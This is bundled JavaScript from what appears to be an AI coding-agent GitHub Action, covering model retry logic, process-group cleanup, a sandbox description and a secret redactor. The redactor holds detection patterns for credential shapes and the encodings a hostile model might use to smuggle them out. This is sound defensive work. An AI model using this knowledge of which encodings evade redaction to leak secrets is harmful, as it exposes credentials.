        return fail(`expected "method" to be one of ${METHODS.join(', ')}, got ${method === undefined ? 'nothing' : JSON.stringify(method)}.`);
    }
    const response = value['response'];
    switch (method) {
        case 'generateContentStream': {
            if (!Array.isArray(response) || !response.every(isObject)) {
                return fail('expected "response" of generateContentStream to be an array of response objects.');
            }
            for (const [index, chunk] of response.entries()) {
                const problem = responseShapeProblem(chunk);
                if (problem !== undefined) {
                    return fail(`expected "response" of generateContentStream to be GenerateContentResponse chunks; chunk ${index + 1}: ${problem}.`);
                }
            }
            return {
                method: 'generateContentStream',
                response: response.map((chunk) => Object.assign(new node/* GenerateContentResponse */.ii(), chunk)),
            };
        }
        case 'generateContent': {
            if (!isObject(response))
                return fail('expected "response" of generateContent to be an object.');
            const problem = responseShapeProblem(response);
            if (problem !== undefined) {
                return fail(`expected "response" of generateContent to be a GenerateContentResponse: ${problem}.`);
            }
            return {
                method: 'generateContent',
                response: Object.assign(new node/* GenerateContentResponse */.ii(), response),
            };
        }
        case 'countTokens':
            if (!isObject(response))
                return fail('expected "response" of countTokens to be an object.');
            return {
                method: 'countTokens',
                response: Object.assign(new node/* CountTokensResponse */.nL(), response),
            };
        case 'embedContent':
            if (!isObject(response))
                return fail('expected "response" of embedContent to be an object.');
            return {
                method: 'embedContent',
                response: Object.assign(new node/* EmbedContentResponse */.qo(), response),
            };
    }
}
/**
 * Parses recorded-session text; `file` names it in errors. Blank lines are skipped; a file without
 * any call is an error, since it can answer nothing.
 */
function parseRecordedSession(text, file) {
    const calls = [];
    const lines = text.split('\n');
    for (const [index, raw] of lines.entries()) {
        const line = raw.trim();
        if (line === '')
            continue;
        const where = { file, line: index + 1 };
        let value;
        try {
            value = JSON.parse(line);
        }
        catch (error) {
            throw new errors/* ConfigurationError */.j1(`expected one JSON object per line, got text that is not JSON (${error instanceof Error ? error.message : String(error)}).`, where);
        }
        calls.push(toCall(value, where));
    }
    if (calls.length === 0) {
        throw new errors/* ConfigurationError */.j1('the recorded session is empty: expected one {"method": …, "response": …} JSON object per model call, one a line.', { file });
    }
    return calls;
}
/** Reads and validates a recorded session file. */
async function readRecordedSession(path) {
    let text;
    try {
        text = await (0,promises_.readFile)(path, 'utf8');
    }
    catch (error) {
        throw new errors/* ConfigurationError */.j1(`expected a readable recorded-session file (${error instanceof Error ? error.message : String(error)}).`, { file: path }, { cause: error });
    }
    return parseRecordedSession(text, path);
}


/***/ }),

/***/ 92638:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  eV: () => (/* binding */ describeRetry),
  bD: () => (/* binding */ withRetry)
});

// UNUSED EXPORTS: DEFAULT_RETRY_OPTIONS, backoffDelay, defaultSleep

// EXTERNAL MODULE: ./src/model/errors.ts
var errors = __webpack_require__(87206);
;// CONCATENATED MODULE: ./src/model/response-validation.ts
/**
 * Checks a complete model reply (all chunks of a stream, or one unary response) for the ways the
 * API is known to return something unusable that a second attempt usually fixes.
 */
/**
 * Finish reasons meaning the reply was blocked. Those are passed through (not retried): the same
 * request would be blocked again, and the session reports them as such.
 */
const BLOCKED_FINISH_REASONS = new Set([
    'SAFETY',
    'RECITATION',
    'BLOCKLIST',
    'PROHIBITED_CONTENT',
    'SPII',
    'IMAGE_SAFETY',
    'IMAGE_PROHIBITED_CONTENT',
    'LANGUAGE',
]);
const INVALID_REASON_TEXT = {
    no_finish_reason: 'the reply ended without a finish reason',
    malformed_function_call: 'the model produced a malformed function call (finish reason MALFORMED_FUNCTION_CALL)',
    no_content: 'the reply had no content (no text or function call)',
};
/** A part that carries something besides (possibly empty) thought text. */
function isContentPart(part) {
    if (part.functionCall)
        return true;
    if (part.thought)
        return false;
    if (typeof part.text === 'string')
        return part.text !== '';
    // inlineData, executableCode, fileData …: anything with a value counts.
    return Object.entries(part).some(([key, value]) => key !== 'thoughtSignature' && value !== undefined);
}
/** Returns why the reply is unusable, or undefined when it is fine (or blocked). */
function invalidReplyReason(chunks) {
    let finishReason;
    let hasContent = false;
    let hasFunctionCall = false;
    let promptBlocked = false;
    for (const chunk of chunks) {
        if (chunk.promptFeedback?.blockReason)
            promptBlocked = true;
        const candidate = chunk.candidates?.[0];
        if (candidate?.finishReason)
            finishReason = candidate.finishReason;
        for (const part of candidate?.content?.parts ?? []) {
            if (part.functionCall)
                hasFunctionCall = true;
            if (isContentPart(part))
                hasContent = true;
        }
    }
    if (promptBlocked)
        return undefined;
    if (finishReason === 'MALFORMED_FUNCTION_CALL')
        return 'malformed_function_call';
    // A reply that calls tools is complete enough to act on even without a finish reason.
    if (hasFunctionCall)
        return undefined;
    if (finishReason === undefined)
        return 'no_finish_reason';
    if (BLOCKED_FINISH_REASONS.has(finishReason))
        return undefined;
    return hasContent ? undefined : 'no_content';
}

;// CONCATENATED MODULE: ./src/model/retry.ts


/** The one sentence every front end (CLI, Action) shows for a retried model request. */
function describeRetry(event) {
    const seconds = Math.round(event.delayMs / 100) / 10;
    return `Model request failed (${event.error.message}); retry ${event.attempt}/${event.maxAttempts} in ${seconds} s.`;
}
/**
 * Backoff defaults: 5 s doubling to 30 s, up to 10 attempts, ±30% jitter for 429s, 5xx and broken
 * connections; two quick retries (0.5 s, 1 s) when no connection can be made at all.
 */
const DEFAULT_RETRY_OPTIONS = {
    maxAttempts: 10,
    initialDelayMs: 5_000,
    maxDelayMs: 30_000,
    maxServerDelayMs: 60_000,
    jitter: 0.3,
    invalidResponseMaxAttempts: 3,
    invalidResponseDelayMs: 500,
    connectMaxAttempts: 3,
    connectDelayMs: 500,
};
function defaultSleep(ms, signal) {
    return new Promise((resolve) => {
        // Cleared on abort so a cancelled session does not keep the process alive; the listener goes
        // when the timer fires, or every retry of a session would leave one on its signal.
        const onAbort = () => {
            clearTimeout(timer);
            resolve();
        };
        const timer = setTimeout(() => {
            signal?.removeEventListener('abort', onAbort);
            resolve();
        }, ms);
        signal?.addEventListener('abort', onAbort, { once: true });
    });
}
/** The computed (not server-requested) delay after `failedAttempts` transport failures. */
function backoffDelay(failedAttempts, options) {
    const base = Math.min(options.maxDelayMs, options.initialDelayMs * 2 ** (failedAttempts - 1));
    const spread = options.jitter * (2 * options.random() - 1);
    return Math.max(0, Math.round(base * (1 + spread)));
}
function abortReason(signal) {
    const reason = signal.reason;
    return reason instanceof Error
        ? reason
        : new DOMException('This operation was aborted', 'AbortError');
}
/** Sleeps, but rejects with the abort reason as soon as the signal fires. */
async function abortableSleep(ms, signal, sleep) {
    if (!signal)
        return sleep(ms);
    if (signal.aborted)
        throw abortReason(signal);
    let onAbort;
    const aborted = new Promise((_, reject) => {
        onAbort = () => {
            reject(abortReason(signal));
        };
        signal.addEventListener('abort', onAbort, { once: true });
    });
    try {
        await Promise.race([sleep(ms, signal), aborted]);
    }
    finally {
        if (onAbort)
            signal.removeEventListener('abort', onAbort);
    }
}
/**
 * Runs `attempt` until it gives a usable result. Transport failures that are worth another try
 * (429, 499, 5xx, broken connections and streams) back off exponentially, or as long as the server
 * asked; connections that cannot be made and complete but unusable replies get a few quick
 * retries, then their error.
 */
async function runWithRetry(attempt, validate, signal, options) {
    let attempts = 0;
    let transportFailures = 0;
    let invalidReplies = 0;
    let failedConnections = 0;
    for (;;) {
        if (signal?.aborted)
            throw abortReason(signal);
        attempts++;
        let failure;
        try {
            const result = await attempt();
            const reason = validate(result);
            if (reason === undefined)
                return result;
            invalidReplies++;
            failure = new errors/* ModelRequestError */.j(invalidReplies >= options.invalidResponseMaxAttempts || attempts >= options.maxAttempts
                ? `The model's reply was unusable after ${invalidReplies} attempt(s): ${INVALID_REASON_TEXT[reason]}.`
                : `The model's reply was unusable: ${INVALID_REASON_TEXT[reason]}.`, { kind: 'invalid_response' });
        }
        catch (error) {
            // A cancelled request stays a cancellation, whatever the transport made of it.
            if (signal?.aborted)
                throw abortReason(signal);
            if (!(error instanceof errors/* ModelRequestError */.j) || !error.retryable)
                throw error;
            failure = error;
            if (error.kind === 'invalid_response')
                invalidReplies++;
            else if (error.kind === 'unreachable')
                failedConnections++;
            else
                transportFailures++;
        }
        const invalid = failure.kind === 'invalid_response';
        const unreachable = failure.kind === 'unreachable';
        const budget = Math.min(invalid
            ? options.invalidResponseMaxAttempts
            : unreachable
                ? options.connectMaxAttempts
                : options.maxAttempts, options.maxAttempts);
        const used = invalid ? invalidReplies : unreachable ? failedConnections : attempts;
        if (used >= budget || attempts >= options.maxAttempts)
            throw failure;
        let delayMs;
        if (invalid) {
            delayMs = options.invalidResponseDelayMs * invalidReplies;
        }
        else if (unreachable) {
            delayMs = options.connectDelayMs * 2 ** (failedConnections - 1);
        }
        else if (failure.retryDelayMs !== undefined) {
            delayMs = Math.min(failure.retryDelayMs, options.maxServerDelayMs);
        }
        else {
            delayMs = backoffDelay(transportFailures, options);
        }
        options.onRetry?.({ attempt: attempts, maxAttempts: budget, delayMs, error: failure });
        await abortableSleep(delayMs, signal, options.sleep);
    }
}
/**
 * Wraps a generator with retries. A stream is read to its end before the consumer sees any chunk,
 * so a reply that breaks off midway is retried without the consumer ever seeing half of it.
 */
function withRetry(generator, options = {}) {
    const d = DEFAULT_RETRY_OPTIONS;
    const resolved = {
        maxAttempts: Math.max(1, options.maxAttempts ?? d.maxAttempts),
        initialDelayMs: options.initialDelayMs ?? d.initialDelayMs,
        maxDelayMs: options.maxDelayMs ?? d.maxDelayMs,
        maxServerDelayMs: options.maxServerDelayMs ?? d.maxServerDelayMs,
        jitter: options.jitter ?? d.jitter,
        invalidResponseMaxAttempts: Math.max(1, options.invalidResponseMaxAttempts ?? d.invalidResponseMaxAttempts),
        invalidResponseDelayMs: options.invalidResponseDelayMs ?? d.invalidResponseDelayMs,
        connectMaxAttempts: Math.max(1, options.connectMaxAttempts ?? d.connectMaxAttempts),
        connectDelayMs: options.connectDelayMs ?? d.connectDelayMs,
        sleep: options.sleep ?? defaultSleep,
        random: options.random ?? Math.random,
        onRetry: options.onRetry,
    };
    return {
        generateContent(request, promptId) {
            return runWithRetry(() => generator.generateContent(request, promptId), (response) => invalidReplyReason([response]), request.config?.abortSignal, resolved);
        },
        async generateContentStream(request, promptId) {
            const chunks = await runWithRetry(async () => {
                const collected = [];
                for await (const chunk of await generator.generateContentStream(request, promptId)) {
                    collected.push(chunk);
                }
                return collected;
            }, invalidReplyReason, request.config?.abortSignal, resolved);
            return replay(chunks);
        },
        countTokens(request) {
            return runWithRetry(() => generator.countTokens(request), () => undefined, request.config?.abortSignal, resolved);
        },
    };
}
// eslint-disable-next-line @typescript-eslint/require-await -- an async generator by contract
async function* replay(chunks) {
    yield* chunks;
}


/***/ }),

/***/ 63255:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   VO: () => (/* binding */ streamLogger),
/* harmony export */   qq: () => (/* binding */ silentLogger)
/* harmony export */ });
/* unused harmony export memoryLogger */
/** A logger that drops everything; for tests and library use. */
const silentLogger = {
    debug: () => undefined,
    info: () => undefined,
    warning: () => undefined,
    error: () => undefined,
};
/** A logger writing plain lines to a stream (stderr in the CLI, so stdout stays machine-readable). */
function streamLogger(stream, options = {}) {
    const line = (prefix, message) => stream.write(`${prefix}${message}\n`);
    return {
        debug: (message) => {
            if (options.debug)
                line('[debug] ', message);
        },
        info: (message) => line('', message),
        warning: (message) => line('warning: ', message),
        error: (message) => line('error: ', message),
    };
}
/** A logger that remembers every line; for tests that assert what a user would read. */
function memoryLogger() {
    const lines = [];
    const push = (level) => (message) => {
        lines.push({ level, message });
    };
    return {
        lines,
        debug: push('debug'),
        info: push('info'),
        warning: push('warning'),
        error: push('error'),
    };
}


/***/ }),

/***/ 70192:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $X: () => (/* binding */ killProcessGroup),
/* harmony export */   DL: () => (/* binding */ isProcessRunning),
/* harmony export */   nc: () => (/* binding */ ProcessGroupTracker),
/* harmony export */   rR: () => (/* binding */ listProcessGroup)
/* harmony export */ });
/* unused harmony exports signalProcessGroup, waitForProcessGroupExit */
/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(31421);
/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_child_process__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_2__);
/**
 * Process groups: a tool command runs as the leader of its own group (spawned with
 * `detached: true`), so everything it starts — pipelines, `&` jobs, their children — can be
 * found and stopped together, and nothing of it outlives the session.
 */



/** How often a group is checked while waiting for it to exit. */
const POLL_MS = 25;
/** After SIGKILL the kernel tears processes down quickly; waiting longer means they are stuck. */
const AFTER_KILL_WAIT_MS = 2000;
const hasProc = (0,node_fs__WEBPACK_IMPORTED_MODULE_1__.existsSync)('/proc/self/stat');
/** Parses `/proc/<pid>/stat`; the command name may contain spaces and parentheses. */
function parseStat(text) {
    const close = text.lastIndexOf(')');
    const pid = Number.parseInt(text, 10);
    const fields = text.slice(close + 2).split(' ');
    const [state, , pgrp] = fields;
    if (close === -1 || !Number.isInteger(pid) || state === undefined || pgrp === undefined) {
        return null;
    }
    return { pid, pgid: Number(pgrp), zombie: state === 'Z' || state === 'X' };
}
async function readProcess(pid) {
    try {
        return parseStat(await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.readFile)(`/proc/${pid}/stat`, 'utf8'));
    }
    catch {
        // Gone meanwhile.
        return null;
    }
}
async function allProcesses() {
    if (hasProc) {
        const names = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.readdir)('/proc');
        const infos = await Promise.all(names.filter((name) => /^\d+$/.test(name)).map((name) => readProcess(Number(name))));
        return infos.filter((info) => info !== null);
    }
    // macOS and other systems without /proc.
    const stdout = await new Promise((resolve) => {
        (0,node_child_process__WEBPACK_IMPORTED_MODULE_0__.execFile)('ps', ['-A', '-o', 'pid=,pgid=,stat='], (error, out) => {
            resolve(error ? '' : out);
        });
    });
    return stdout
        .split('\n')
        .map((line) => line.trim().split(/\s+/))
        .filter((fields) => fields.length >= 3)
        .map(([pid, pgid, stat]) => ({
        pid: Number(pid),
        pgid: Number(pgid),
        zombie: stat?.startsWith('Z') ?? false,
    }));
}
/** The live (not zombie) processes in group `pgid`, in ascending PID order. */
async function listProcessGroup(pgid) {
    const members = (await allProcesses())
        .filter((info) => info.pgid === pgid && !info.zombie)
        .map((info) => info.pid);
    return members.sort((a, b) => a - b);
}
/** True while `pid` runs; an exited process waiting to be reaped (a zombie) is not running. */
async function isProcessRunning(pid) {
    if (hasProc) {
        const info = await readProcess(pid);
        return info !== null && !info.zombie;
    }
    try {
        process.kill(pid, 0);
        return true;
    }
    catch (error) {
        return error.code === 'EPERM';
    }
}
/** Sends `signal` to every process in the group; false when the group no longer exists. */
function signalProcessGroup(pgid, signal) {
    try {
        process.kill(-pgid, signal);
        return true;
    }
    catch {
        return false;
    }
}
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
/** Waits until no live process is left in the group; false when `timeoutMs` ran out first. */
async function waitForProcessGroupExit(pgid, timeoutMs) {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
        if ((await listProcessGroup(pgid)).length === 0)
            return true;
        if (Date.now() >= deadline)
            return false;
        await sleep(POLL_MS);
    }
}
/**
 * Stops a whole group: SIGTERM first, so programs can clean up (remove lock files, flush logs),
 * then SIGKILL for whatever is still running after the grace period. Resolves once the group is
 * empty (or, should processes be stuck in the kernel, shortly after SIGKILL).
 */
async function killProcessGroup(pgid, options) {
    if (!signalProcessGroup(pgid, 'SIGTERM'))
        return;
    // A stopped process acts on SIGTERM only once continued.
    signalProcessGroup(pgid, 'SIGCONT');
    if (await waitForProcessGroupExit(pgid, options.graceMs))
        return;
    signalProcessGroup(pgid, 'SIGKILL');
    await waitForProcessGroupExit(pgid, AFTER_KILL_WAIT_MS);
}
/**
 * The process groups a tool has started and not yet seen finish: commands still running, and
 * groups whose shell exited but left background processes (`server &`). `killAll` ends them all
 * when the session ends.
 */
class ProcessGroupTracker {
    options;
    running = new Set();
    /** Group → the background PIDs reported to the model. */
    background = new Map();
    constructor(options) {
        this.options = options;
    }
    started(pgid) {
        this.running.add(pgid);
    }
    /** The group's leader exited; `backgroundPids` are the members it left running. */
    finished(pgid, backgroundPids) {
        this.running.delete(pgid);
        if (backgroundPids.length > 0)
            this.background.set(pgid, new Set(backgroundPids));
    }
    /** Every PID reported as a background process and not yet killed. */
    backgroundPids() {
        return [...this.background.values()].flatMap((pids) => [...pids]);
    }
    async killAll() {
        const running = [...this.running];
        const background = [...this.background];
        this.running.clear();
        this.background.clear();
        await Promise.all([
            ...running.map((pgid) => killProcessGroup(pgid, this.options)),
            ...background.map(async ([pgid, pids]) => {
                // The group id could in principle belong to a new, unrelated group by now; only a group
                // that still holds one of the processes we reported is ours to kill.
                const members = await listProcessGroup(pgid);
                if (members.some((pid) => pids.has(pid)))
                    await killProcessGroup(pgid, this.options);
            }),
        ]);
    }
}


/***/ }),

/***/ 63178:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   dZ: () => (/* binding */ redactTokenShapes),
/* harmony export */   lY: () => (/* binding */ createRedactor),
/* harmony export */   yk: () => (/* binding */ secretEnvironmentValues)
/* harmony export */ });
/* unused harmony exports REDACTED, MIN_SECRET_LENGTH */
/**
 * Secret redaction for every text that leaves the run: comments, log lines, step outputs, job
 * summary, transcript, commit messages. The model is assumed hostile, so a secret must not get
 * out plainly nor in a simple disguise.
 *
 * Two layers:
 * - **Known values** (the GitHub token, the model key, credential-named environment variables):
 *   replaced as they are, URL-encoded, JSON-escaped, Base64 (standard and URL-safe alphabet, at
 *   any byte offset, so a token inside `base64("x-access-token:" + token)` is caught), hex and
 *   reversed. Values shorter than `MIN_SECRET_LENGTH` are ignored: masking `true` or `1234`
 *   would shred ordinary text while protecting nothing worth the name.
 * - **Token shapes**, for secrets we were never told about: GitHub tokens, Google API keys (the
 *   classic `AIza…` and AI Studio's auth keys `AQ.…`) and OAuth tokens, AWS access keys, Slack
 *   tokens and webhooks, JWTs, private key blocks, `Bearer` and `Authorization:` credentials and
 *   passwords in URLs. Commit SHAs, UUIDs and ordinary prose
 *   are left alone; shapes are chosen by their fixed prefixes, not by "looks random".
 */
/** What a secret is replaced with, as on the runner's own log. */
const REDACTED = '***';
/** Known values (and their encodings) shorter than this many characters are not redacted. */
const MIN_SECRET_LENGTH = 8;
function escapeRegExp(text) {
    return text.replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&');
}
/**
 * The part of the Base64 encoding of `bytes` that does not depend on what surrounds them, for
 * each of the three positions the value can have relative to Base64's 3-byte groups.
 */
function base64Fragments(bytes) {
    const fragments = [];
    for (let offset = 0; offset < 3; offset++) {
        const encoded = Buffer.concat([Buffer.alloc(offset), bytes]).toString('base64');
        // The first group mixes in bytes before the value, the last incomplete one bytes after it.
        const start = offset === 0 ? 0 : 4;
        const end = Math.floor((offset + bytes.length) / 3) * 4;
        if (end > start)
            fragments.push(encoded.slice(start, end));
    }
    return fragments;
}
/** The forms a value takes when something encodes it on the way out. */
function encodings(value) {
    const bytes = Buffer.from(value, 'utf8');
    const base64 = base64Fragments(bytes);
    const uri = encodeURIComponent(value);
    return [
        value,
        uri,
        uri.replace(/%20/g, '+'),
        JSON.stringify(value).slice(1, -1),
        ...base64,
        ...base64.map((fragment) => fragment.replace(/\+/g, '-').replace(/\//g, '_')),
        bytes.toString('hex'),
        bytes.toString('hex').toUpperCase(),
        Array.from(value).reverse().join(''),
    ];
}
/** A credential after `Bearer` or `Authorization:`, as opposed to a word of prose. */
function looksLikeToken(value) {
    return (value.length >= MIN_SECRET_LENGTH && /\d/.test(value)) || value.length >= 24;
}
const redactAll = () => REDACTED;
/** Keeps the first group (a label such as `Bearer `) and redacts the second when token-like. */
const redactTokenAfterLabel = (match, label = '', token = '') => looksLikeToken(token) ? `${label}${REDACTED}` : match;
const redactAfterLabel = (_match, label = '') => `${label}${REDACTED}`;
const BEFORE = '(?<![A-Za-z0-9_])';
const AFTER = '(?![A-Za-z0-9_-])';
const TOKEN_SHAPES = [
    // GitHub personal, OAuth, user-to-server, installation and refresh tokens; fine-grained PATs.
    [
        new RegExp(`${BEFORE}(?:gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,})`, 'g'),
        redactAll,
    ],
    // Google API keys: classic (`AIza` + 35) and AI Studio's service-account-bound auth keys (`AQ.`
    // + a URL-safe token, dots allowed inside; https://ai.google.dev/gemini-api/docs/api-key).
    // Then OAuth access and refresh tokens.
    [new RegExp(`${BEFORE}AIza[0-9A-Za-z_-]{30,}${AFTER}`, 'g'), redactAll],
    [new RegExp(`${BEFORE}AQ\\.[0-9A-Za-z_-]{20,}(?:\\.[0-9A-Za-z_-]+)*`, 'g'), redactAll],
    [new RegExp(`${BEFORE}ya29\\.[0-9A-Za-z_-]{16,}(?:\\.[0-9A-Za-z_-]+)*`, 'g'), redactAll],
    [new RegExp(`${BEFORE}1//0[0-9A-Za-z_-]{20,}`, 'g'), redactAll],
    // AWS access key ids, and secret keys where they are named.
    [new RegExp(`${BEFORE}(?:AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}${AFTER}`, 'g'), redactAll],
    [
        /(aws_secret_access_key|aws_session_token)(\s*[:=]\s*["']?)[A-Za-z0-9/+=]{16,}/gi,
        (_match, name = '', separator = '') => `${name}${separator}${REDACTED}`,
    ],
    // Slack tokens and incoming webhooks.
    [new RegExp(`${BEFORE}xox[abposre]-[0-9A-Za-z-]{10,}`, 'g'), redactAll],
    [/(https:\/\/hooks\.slack\.com\/services\/)[A-Za-z0-9/]+/g, redactAfterLabel],
    // JWTs: header and payload are Base64 JSON objects, so both start with `eyJ`.
    [
        new RegExp(`${BEFORE}eyJ[A-Za-z0-9_-]{8,}\\.eyJ[A-Za-z0-9_-]{8,}\\.[A-Za-z0-9_-]*`, 'g'),
        redactAll,
    ],
    // `Authorization: Basic …` / `: Bearer …` / `: token …`: the credentials, whatever they look like.
    [
        /(\bauthorization["']?\s*[:=]\s*["']?(?:basic|bearer|token|digest|negotiate)\s+)([^\s"',;]{4,})/gi,
        redactAfterLabel,
    ],
    // `Authorization: …` without a scheme, and a bare `Bearer …`: only what looks like a token, so
    // "Bearer authentication" in prose survives.
    [/(\bauthorization["']?\s*[:=]\s*["']?)([^\s"',;]+)/gi, redactTokenAfterLabel],
    [/(\bbearer\s+)([A-Za-z0-9._~+/-]+=*)/gi, redactTokenAfterLabel],
    // Passwords in URLs: `https://user:password@host`.
    // The schemes are listed: an open pattern would try every word boundary in long text.
    [
        /(\b(?:https?|git|ssh|ftps?|wss?|redis|postgres(?:ql)?|mysql|mongodb(?:\+srv)?|amqps?):\/\/[^\s/:@]+:)[^\s/@]+(?=@)/gi,
        redactAfterLabel,
    ],
];
const PEM_BEGIN = /-----BEGIN[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----/g;
const PEM_END = /-----END[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----/g;
/** Base64 lines after a header (a blank line ends them), the line breaks real or written `\n`. */
const PEM_BODY = /(?:(?:\r?\n|(?:\\r)?\\n)[A-Za-z0-9+/=]+)*/y;
/**
 * Private key blocks, header to footer; a cut-off block up to where its Base64 lines end, which
 * keeps serialized JSON valid. A scan rather than one regular expression, so that text full of
 * headers without footers costs linear time.
 */
function redactPrivateKeys(text) {
    let result = '';
    let position = 0;
    let footerAhead = true;
    PEM_BEGIN.lastIndex = 0;
    for (let begin = PEM_BEGIN.exec(text); begin !== null; begin = PEM_BEGIN.exec(text)) {
        const headerEnd = begin.index + begin[0].length;
        let footer = null;
        if (footerAhead) {
            PEM_END.lastIndex = headerEnd;
            footer = PEM_END.exec(text);
            // No footer after this header means none after any later header either.
            footerAhead = footer !== null;
        }
        let end;
        if (footer !== null) {
            end = footer.index + footer[0].length;
        }
        else {
            PEM_BODY.lastIndex = headerEnd;
            PEM_BODY.exec(text);
            end = PEM_BODY.lastIndex;
        }
        result += `${text.slice(position, begin.index)}${REDACTED}`;
        position = end;
        PEM_BEGIN.lastIndex = end;
    }
    return result + text.slice(position);
}
/** Applies the token shapes; exported for callers that have no known values at hand. */
function redactTokenShapes(text) {
    let result = redactPrivateKeys(text);
    for (const [pattern, replacer] of TOKEN_SHAPES) {
        result = result.replace(pattern, replacer);
    }
    return result;
}
/**
 * A redactor for known values (given now or registered later) and token shapes. `redact` is a
 * plain function, so it can be handed to renderers and sinks as it is.
 */
function createRedactor(options = {}) {
    const variants = new Set();
    const told = new Set();
    let known;
    const register = (secret) => {
        if (secret === undefined)
            return false;
        // A multi-line secret (a private key, a JSON credentials file) may leak one line at a time.
        const values = [secret, ...secret.split(/\r?\n/).map((line) => line.trim())].filter((value) => value.length >= MIN_SECRET_LENGTH);
        if (values.length === 0)
            return false;
        for (const value of values) {
            for (const variant of encodings(value)) {
                if (variant.length >= MIN_SECRET_LENGTH)
                    variants.add(variant);
            }
            if (!told.has(value)) {
                told.add(value);
                options.setSecret?.(value);
            }
        }
        // Longest first, so a value is never half-replaced by a shorter one it contains.
        const sorted = [...variants].sort((a, b) => b.length - a.length);
        known = new RegExp(sorted.map(escapeRegExp).join('|'), 'g');
        return true;
    };
    const redact = (text) => {
        const withoutKnown = known === undefined ? text : text.replace(known, REDACTED);
        return redactTokenShapes(withoutKnown);
    };
    const containsKnown = (text) => {
        if (known === undefined)
            return false;
        known.lastIndex = 0;
        return known.test(text);
    };
    for (const secret of options.secrets ?? [])
        register(secret);
    return { redact, register, containsKnown };
}
/**
 * Credential-named variables: `GITHUB_TOKEN`, `GEMINI_API_KEY`, `INPUT_GITHUB_TOKEN`, `NPM_TOKEN`,
 * `CLIENT_SECRET`, `DB_PASSWORD`. Only the suffix counts for `_TOKEN` and `_KEY`, so
 * `ACTIONS_ID_TOKEN_REQUEST_URL` (a URL) and `INPUT_MODEL` are not taken for secrets.
 */
const SECRET_NAME = /(?:_TOKEN|_KEY|_PASSWD)$|^TOKEN$|SECRET|PASSWORD/i;
/**
 * The values of the environment variables named like credentials (the job token, model keys,
 * the runner's runtime and OIDC request tokens, `INPUT_*` keys, `NPM_TOKEN`, …), to register with
 * a redactor before anything is posted.
 */
function secretEnvironmentValues(env) {
    return Object.entries(env)
        .filter(([name, value]) => value !== undefined && value !== '' && SECRET_NAME.test(name))
        .map(([, value]) => value ?? '');
}


/***/ }),

/***/ 37816:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   P: () => (/* binding */ RUN_MODES),
/* harmony export */   o: () => (/* binding */ RUN_TRUSTS)
/* harmony export */ });
/**
 * What a run is for and who started it. The trigger decides both, the Action's inputs and the CLI's
 * flags can force the mode, and policy rules can be scoped to them; so they live below all three.
 */
/** What a run is for; policy rules can be scoped to some of them (`runModes`). */
const RUN_MODES = ['invoke', 'review', 'triage', 'maintenance'];
/** Who started the run: a maintainer's command, or an automatic event (push, schedule, PR). */
const RUN_TRUSTS = ['maintainer', 'automatic'];


/***/ }),

/***/ 33784:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  go: () => (/* binding */ reportSandbox),
  u1: () => (/* binding */ resolveSandbox)
});

// UNUSED EXPORTS: ACTION_SANDBOX_OFF, unsandboxedNotice

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
// EXTERNAL MODULE: ./src/platform/process-group.ts
var process_group = __webpack_require__(70192);
;// CONCATENATED MODULE: ./src/platform/sandbox/namespace-setup.ts
/**
 * The script that prepares a namespace sandbox. It runs once per session as the first process
 * (PID 1) of a fresh PID and mount namespace, with the privileges needed to mount, and then stays
 * as that namespace's init: commands join it later, and killing it ends every process in it.
 *
 * What it does to its own mount namespace (nothing outside changes):
 * 1. every existing mount becomes read-only (only this namespace's /proc and the terminal devices
 *    stay writable), so a command cannot plant anything outside the workspace: not in the tool
 *    cache, not in the home directory, not in /etc;
 * 2. the home, temporary and runner directories get empty private tmpfs mounts over them, so the
 *    runner user's files (credentials, the runner's file-command files, other checkouts) are out
 *    of sight; the home and temporary ones are writable, as programs expect;
 * 3. directories that must stay usable under a hidden one (the tool cache, PATH entries) are
 *    mounted back read-only, and the workspace is mounted back read-write, with its `.git`
 *    read-only so no hook or configuration can be planted for the trusted steps after the session;
 * 4. container engine sockets are covered, where the command keeps groups that could reach them.
 *
